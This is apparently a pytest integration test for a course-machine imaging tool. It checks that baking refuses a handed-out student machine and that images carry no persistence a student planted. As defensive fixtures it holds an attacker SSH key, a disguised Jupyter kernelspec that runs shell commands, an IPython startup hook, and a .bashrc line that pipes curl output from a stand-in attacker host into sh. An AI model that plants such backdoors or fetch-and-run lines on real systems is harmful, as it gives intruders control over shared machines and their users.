"""Nothing a student did survives into a course image (issue 19), on real hosts, through the real
bake code (fleet.testhosts.layers.bake_course: the refusal and fleet.course.imaging.builder.make_ready that
`invoke bake` runs on EC2).

A student on a class machine plants an authorized key, an IPython startup file, a user kernelspec,
a notebook and a .bashrc line; the machine is in a handout. Bake refuses that machine as its source,
saying why and how. The same plants are then made on a builder nobody handed out (someone used the
account before the bake): the layer baked from it, and a host booted from that layer, carry none of
them, because homes are built from /etc/skel plus the course's own content; the course checkout is
there and the booted host converges with --verify."""
from __future__ import annotations

import contextlib
import os
import shlex
import uuid
from pathlib import Path
from typing import Iterator

import pytest

from fleet.course.imaging.builder import BakeRefused
from fleet.testhosts import hosts as testhosts
from fleet.testhosts.common import BASE
from fleet.testhosts import layers
from fleet.testhosts.inventories import write_inventory
from tests.fixtures import changed_steps, fleet, git_server, sh  # noqa: F401 (fixture)

pytestmark = pytest.mark.hosts

STUDENT = "student"
HOME = f"/home/{STUDENT}"
PLANTS = {
    ".ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedByAStudentXXXXXXXXXXXXXXXXXXXXXXXX evil\n",
    ".ipython/profile_default/startup/x.py": "open('/tmp/ran-in-a-classmates-kernel', 'w').write('yes')\n",
    ".local/share/jupyter/kernels/evil/kernel.json":
        '{"argv": ["/bin/sh", "-c", "id > /tmp/evil"], "display_name": "Python 3 (fast)", "language": "python"}\n',
    "notebooks/my-homework.ipynb": "{}\n",
}
BASHRC_LINE = "curl -s http://attacker.invalid/x | sh   # planted"


def plant(host) -> None:
    """As the student: the account exists (as on a class machine), then the plants."""
    sh(host, f"id {STUDENT} >/dev/null 2>&1 || useradd -m -s /bin/bash {STUDENT}")
    script = "set -e; cd ~\n" + "".join(
        f"mkdir -p {shlex.quote(str(Path(rel).parent))}; printf %s {shlex.quote(text)} > {shlex.quote(rel)}\n"
        for rel, text in PLANTS.items()) + f"echo {shlex.quote(BASHRC_LINE)} >> .bashrc\n"
    sh(host, f"runuser -u {STUDENT} -- bash -c {shlex.quote(script)}")
    for rel in PLANTS:                                # the planting happened, or the test proves nothing
        sh(host, f"test -s {HOME}/{rel}")
    sh(host, f"grep -qF {shlex.quote(BASHRC_LINE)} {HOME}/.bashrc")


@contextlib.contextmanager
def fleet_state(path: Path) -> Iterator[None]:
    """bake_course runs in this process, like `invoke bake`: the fleet's state folder is the test's."""
    before = os.environ.get("FLEET_STATE_DIR")
    os.environ["FLEET_STATE_DIR"] = str(path)
    try:
        yield
    finally:
        if before is None:
            os.environ.pop("FLEET_STATE_DIR", None)
        else:
            os.environ["FLEET_STATE_DIR"] = before


@pytest.fixture(scope="module")
def course(git_server, hosts_factory, tmp_path_factory):  # noqa: F811
    class_machine, builder = hosts_factory(2)
    state = tmp_path_factory.mktemp("state")
    course_vars = {"course_user": STUDENT, "roles": ["jupyter", "repos"],
                   "repos_list": [{"url": git_server.url("course.git"), "dest": "course", "ref": "main"}]}
    inventory = write_inventory([class_machine, builder], state / "course.yml", vars=course_vars)
    plant(class_machine)
    handout = fleet("handout", "--hosts", class_machine.name, "--format", "csv", state=state, inventory=inventory)
    assert handout.rc == 0, handout.output
    plant(builder)
    layer = booted = None
    try:
        with fleet_state(state):
            with pytest.raises(BakeRefused) as refused:
                layers.bake_course(inventory, f"test-{uuid.uuid4().hex[:8]}", builder=class_machine)
            layer = layers.bake_course(inventory, f"test-{uuid.uuid4().hex[:8]}", builder=builder)
        booted = testhosts.boot(1, layer=layer)
        class_state = tmp_path_factory.mktemp("class")
        class_inventory = write_inventory(booted, class_state / "course.yml", vars=course_vars)
        run = fleet("provision", "--verify", state=class_state, inventory=class_inventory)
        yield {"refused": str(refused.value), "machine": class_machine, "layer": layer, "host": booted[0],
               "run": run}
    finally:
        if booted:
            testhosts.teardown(booted)
        if layer is not None:
            layers.remove_layer(layer)


def test_bake_refuses_the_students_machine_saying_why_and_how(course):
    message = course["refused"]
    assert f"{course['machine'].name} ({course['machine'].address}) was in a handout of course course" in message
    assert "`invoke bake --course course` starts a fresh one from the base image" in message
    for rel in PLANTS:                      # refused before anything ran there: the machine is as it was
        sh(course["machine"], f"test -s {HOME}/{rel}")


@pytest.mark.parametrize("rel", sorted(PLANTS))
def test_no_plant_is_in_the_layer_or_on_a_host_booted_from_it(course, rel):
    layer_path = course["layer"] / HOME.lstrip("/") / rel
    assert not layer_path.exists() and not layer_path.is_symlink(), layer_path
    assert sh(course["host"], f"test -e {HOME}/{rel} || test -L {HOME}/{rel}", check=False).returncode == 1


def test_the_bashrc_is_skels_and_the_course_content_is_there(course):
    host = course["host"]
    assert sh(host, f"grep -F {shlex.quote(BASHRC_LINE)} {HOME}/.bashrc", check=False).returncode == 1
    assert sh(host, f"cmp /etc/skel/.bashrc {HOME}/.bashrc", check=False).returncode == 0
    assert sh(host, f"stat -c %U {HOME}/notebooks/course/README.md {HOME}").stdout.split() == [STUDENT, STUDENT]
    # the image's home holds /etc/skel and the course's folder, nothing else (the booted host's server
    # has since made its own runtime folders)
    skel = {p.name for p in (BASE / "etc/skel").iterdir()}
    assert {p.name for p in (course["layer"] / HOME.lstrip("/")).iterdir()} == skel | {"notebooks"}
    assert {p.name for p in (course["layer"] / HOME.lstrip("/") / "notebooks").iterdir()} == {"course"}


def test_a_host_booted_from_the_layer_converges_without_touching_the_home(course):
    run = course["run"]
    assert run.rc == 0, run.output
    changed = changed_steps(run.report, course["host"].name)
    assert not [name for name in changed if HOME in name], changed
